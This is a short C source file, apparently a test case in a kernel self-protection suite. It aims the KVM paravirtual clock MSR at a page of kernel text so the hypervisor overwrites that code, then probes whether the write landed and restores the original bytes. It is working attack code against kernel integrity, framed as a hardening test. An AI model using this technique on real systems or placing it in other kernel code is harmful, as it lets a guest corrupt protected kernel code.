// SPDX-License-Identifier: GPL-2.0-only
/* KVM is told to keep the guest's clock in kernel text: it writes there at every entry. */
#include <asm/kvm_para.h>
#include <asm/processor.h>

#include "attack.h"

ATTACK_SYMBOL(sock_ops_convert_ctx_access);
static u8 old[64];
static u64 old_msr;

static u8 *place(void)
{
	return (u8 *)PAGE_ALIGN(sock_ops_convert_ctx_access_at);
}

static int run(void)
{
	if (!kvm_para_available() ||
	    !(cpuid_eax(KVM_CPUID_FEATURES) & (1u << KVM_FEATURE_CLOCKSOURCE2)))
		return -EOPNOTSUPP;
	memcpy(old, place(), sizeof(old));
	rdmsrl(MSR_KVM_SYSTEM_TIME_NEW, old_msr);
	wrmsrl(MSR_KVM_SYSTEM_TIME_NEW, attack_pa(place()) | 1);
	return 0;
}

static void undo(void)
{
	wrmsrl(MSR_KVM_SYSTEM_TIME_NEW, old_msr);
	(void)attack_write(place(), old, sizeof(old));
}

static int probe(void)
{
	return memcmp(old, place(), sizeof(old)) ? ATTACK_WORKS : 0;
}

ATTACK(run, undo, probe, "pvclock MSR aimed at text");
